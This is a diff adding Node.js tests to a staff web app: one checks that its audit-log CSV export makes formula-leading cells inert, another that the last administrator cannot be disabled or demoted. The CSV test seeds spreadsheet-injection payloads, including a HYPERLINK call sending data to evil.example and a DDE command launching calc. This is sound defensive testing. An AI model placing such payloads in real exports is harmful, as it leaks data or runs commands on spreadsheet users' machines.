@@ -3,6 +3,7 @@
 // and that entries hold ids, never personal data.
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
 import { run, startServer, yorkDatabase, backend } from '../lib/alongside.mjs';
 import { Browser, DEMO_PASSWORD } from '../lib/staff.mjs';
 
@@ -225,4 +226,140 @@ test('team leaders see their own team\'s trail, and export it as CSV', async () 
   assert.match(badFilter.text, /<a href="#from">Enter the from date/);
   assert.match(badFilter.text, /<a href="#to">Enter the to date/);
   assert.equal((await jo.get('/team/audit.csv?to=2026-02-30')).status, 422);
+});
+
+// Runs one statement on the test database, behind the binary's back.
+function sql(statement) {
+  if (backend === 'postgresql') execFileSync('psql', [db, '-qAtc', statement], { stdio: 'pipe' });
+  else execFileSync('sqlite3', [db.replace(/^sqlite:/, ''), statement], { stdio: 'pipe' });
+}
+
+// RFC 4180: quoted cells with "" for a quote, rows ended by CRLF.
+function parseCsv(text) {
+  const rows = [];
+  let row = [], cell = '', quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(cell); rows.push(row); row = []; cell = ''; i++;
+    } else cell += c;
+  }
+  assert.equal(cell + row.join(''), '', 'the file ends with a whole row');
+  return rows;
+}
+
+test('every cell of the audit CSV that a spreadsheet would run is made inert', async () => {
+  // No field a request can fill reaches the team's trail with such a first
+  // character today (usernames start with a letter or digit, the rest are
+  // ids, names of actions and addresses), so the row is written straight
+  // into the database, as an older version or an import might have left it.
+  const crafted = {
+    actor_token_id: '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    action: '+SUM(1,2)',
+    outcome: '-1+2',
+    record_type: '@SUM(1)',
+    record_id: '\t=1+1',
+    client_address: '\r=1+1',
+    request_id: "\r\n=cmd|' /C calc'!A0",
+  };
+  const quote = (v) => "'" + v.replace(/'/g, "''") + "'";
+  sql('INSERT INTO audit_log (id, at, actor_token_id, action, outcome, record_type, record_id, area_id,'
+    + ` client_address, request_id) VALUES ('${'c'.repeat(32)}', '${new Date().toISOString()}',`
+    + ` ${quote(crafted.actor_token_id)}, ${quote(crafted.action)}, ${quote(crafted.outcome)},`
+    + ` ${quote(crafted.record_type)}, ${quote(crafted.record_id)}, '${areas['Acomb and Westfield']}',`
+    + ` ${quote(crafted.client_address)}, ${quote(crafted.request_id)})`);
+  const jo = await new Browser(server.url).signedIn('jo.bennett');
+  const csv = await jo.get('/team/audit.csv');
+  assert.equal(csv.status, 200);
+  const [header, ...rows] = parseCsv(csv.text);
+  assert.deepEqual(header, ['at', 'who', 'action', 'outcome', 'record_type', 'record_id', 'area_id',
+    'client_address', 'request_id']);
+  assert.ok(rows.every((r) => r.length === header.length), 'every row has every column');
+  const row = rows.find((r) => r[8].includes('calc'));
+  assert.ok(row, 'the crafted row is in the export');
+  assert.deepEqual(row.slice(1, 9), [crafted.actor_token_id, crafted.action, crafted.outcome,
+    crafted.record_type, crafted.record_id, areas['Acomb and Westfield'], crafted.client_address,
+    crafted.request_id].map((v, i) => (i === 5 ? v : "'" + v)));
+  for (const r of rows) {
+    for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, JSON.stringify(cell));
+  }
+});
+
+test('nobody disables their own account, nor disables or demotes the last administrator', async () => {
+  // A database of its own, to know exactly who administers it.
+  const own = await startServer();
+  const cli = (args, input) => run(['user', ...args, '--db', own.db], { input });
+  const password = 'a long and private passphrase';
+  assert.equal((await cli(['add', 'alex', '--role', 'administrator'], password + '\n')).code, 0);
+  const alex = await new Browser(own.url).signedIn('alex', password);
+  const csrf_token = await alex.csrf('/staff');
+  const alexApi = (method, path, json) => alex.request(method, path, { json, headers: { 'X-CSRF-Token': csrf_token } });
+  const id = (await alexApi('GET', '/api/v1/me')).json().id;
+  const state = async () => {
+    const u = (await alexApi('GET', `/api/v1/admin/users/${id}`)).json();
+    return { disabled: u.disabled, administrator: 'administrator' in u.roles };
+  };
+  try {
+    const page = await alex.post(`/admin/users/${id}/disable`, { csrf_token });
+    assert.equal(page.status, 422);
+    assert.match(page.text, /<a href="#disabled">you cannot disable your own account/);
+    assert.match(page.text, /id="disabled-error"[^>]*>.*you cannot disable your own account/);
+    const demote = await alex.post(`/admin/users/${id}/roles`, { csrf_token, role: 'administrator', remove: '1' });
+    assert.equal(demote.status, 422);
+    assert.match(demote.text, /<a href="#role-administrator">alex is the last administrator who can sign in/);
+    assert.match(demote.text, /id="role-administrator"[^]*?govuk-error-message[^>]*>.*last administrator/);
+
+    const apiOff = await alexApi('PUT', `/api/v1/admin/users/${id}/disabled`, { disabled: true });
+    assert.equal(apiOff.status, 422);
+    assert.deepEqual(apiOff.json().error.fields.map((f) => f.field), ['disabled']);
+    const apiDemote = await alexApi('DELETE', `/api/v1/admin/users/${id}/roles/administrator`);
+    assert.equal(apiDemote.status, 422);
+    assert.deepEqual(apiDemote.json().error.fields.map((f) => f.field), ['role']);
+    assert.match(apiDemote.json().error.message, /last administrator/);
+
+    // The command line is held to the last-administrator rule too.
+    for (const args of [['disable', 'alex'], ['set-role', 'alex', 'administrator', '--remove']]) {
+      const r = await cli(args);
+      assert.equal(r.code, 2, r.stderr);
+      assert.match(r.stderr, /alex is the last administrator who can sign in: make another administrator first/);
+    }
+
+    assert.deepEqual(await state(), { disabled: false, administrator: true }, 'nothing changed');
+    assert.equal((await alex.get('/api/v1/me')).status, 200, 'still signed in');
+    const trail = (await alexApi('GET', '/api/v1/admin/audit')).json().entries.filter((e) => e.record_id === id);
+    const refused = (action) => trail.filter((e) => e.action === action && e.outcome === 'refused').length;
+    assert.equal(refused('user_disable'), 3, 'page, API and command line');
+    assert.equal(refused('role_change'), 3);
+    assert.ok(trail.every((e) => e.outcome === 'refused' || e.action === 'password_change' || e.action === 'user_add'));
+
+    // With a second administrator, each may disable or demote the other,
+    // and the command line either of them.
+    assert.equal((await cli(['add', 'sam', '--role', 'administrator'], password + '\n')).code, 0);
+    const sam = (await alexApi('GET', '/api/v1/admin/users')).json().users.find((u) => u.username === 'sam');
+    assert.equal((await alex.post(`/admin/users/${sam.id}/disable`, { csrf_token })).status, 303);
+    assert.equal((await cli(['disable', 'alex'])).code, 2, 'sam is disabled: alex is the last again');
+    assert.equal((await alexApi('PUT', `/api/v1/admin/users/${sam.id}/disabled`, { disabled: false })).status, 200);
+    assert.equal((await alex.post(`/admin/users/${id}/disable`, { csrf_token })).status, 422, 'never oneself');
+    assert.equal((await cli(['set-role', 'alex', 'administrator', '--remove'])).code, 2, 'his only role');
+    assert.equal((await cli(['disable', 'alex'])).code, 0);
+    assert.equal((await cli(['enable', 'alex'])).code, 0);
+
+    // Two administrators disabling each other at once: one of them wins
+    // (the other is refused, or already signed out when it arrives).
+    const alexAgain = await new Browser(own.url).signedIn('alex', password);
+    const samBrowser = await new Browser(own.url).signedIn('sam', password);
+    const tokens = [await alexAgain.csrf('/staff'), await samBrowser.csrf('/staff')];
+    const put = (b, token, who) => b.request('PUT', `/api/v1/admin/users/${who}/disabled`,
+      { json: { disabled: true }, headers: { 'X-CSRF-Token': token } });
+    const statuses = (await Promise.all([put(alexAgain, tokens[0], sam.id), put(samBrowser, tokens[1], id)])).map((r) => r.status);
+    assert.equal(statuses.filter((st) => st === 200).length, 1, String(statuses));
+    assert.ok(statuses.every((st) => [200, 401, 422].includes(st)), String(statuses));
+    const listed = (await cli(['list'])).stdout.trim().split('\n');
+    assert.deepEqual(listed.map((l) => l.split(/ +/)[1]).sort(), ['active', 'disabled'], listed.join('\n'));
+  } finally {
+    await own.stop();
+  }
 });
